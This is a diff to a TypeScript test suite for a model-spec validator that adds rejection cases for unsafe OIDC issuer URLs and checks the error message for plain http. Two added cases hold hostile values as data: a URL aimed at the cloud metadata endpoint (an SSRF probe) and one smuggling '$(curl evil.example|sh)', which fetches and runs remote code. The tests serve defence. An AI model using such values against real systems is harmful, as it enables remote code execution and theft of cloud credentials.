@@ -95,6 +95,16 @@ describe('validateModelSpec', () => {
     ],
     ['OIDC without issuer', { auth: { type: 'oidc' } }, 'auth.issuerUrl'],
     [
+      'M2: an OIDC issuer over plain http to another host (Authorino would fetch it: SSRF)',
+      oidc({ issuerUrl: 'http://169.254.169.254/latest/meta-data' }),
+      'auth.issuerUrl',
+    ],
+    [
+      "M2: an OIDC issuer with shell characters (pasted into every user's token script)",
+      oidc({ issuerUrl: 'https://sso.example.com/$(curl evil.example|sh)' }),
+      'auth.issuerUrl',
+    ],
+    [
       'OIDC with a bad claim',
       oidc({ tierClaim: 'tier.name' }),
       'auth.tierClaim',
@@ -112,6 +122,23 @@ describe('validateModelSpec', () => {
       expect(problems[0].message).not.toBe('');
     },
   );
+
+  it('M2: says why an issuer URL is refused and what one looks like', () => {
+    expect(
+      problemsOf(modelInput(oidc({ issuerUrl: 'http://sso.example.com' }))),
+    ).toEqual([
+      {
+        path: 'auth.issuerUrl',
+        message:
+          '"http://sso.example.com" uses http; an issuer URL uses https (http only on 127.0.0.1 or localhost, for a test bed)',
+      },
+    ]);
+    expect(
+      problemsOf(
+        modelInput(oidc({ issuerUrl: 'https://sso.example.com/realms/maas' })),
+      ),
+    ).toEqual([]);
+  });
 
   it('explains the window', () => {
     const [problem] = problemsOf(
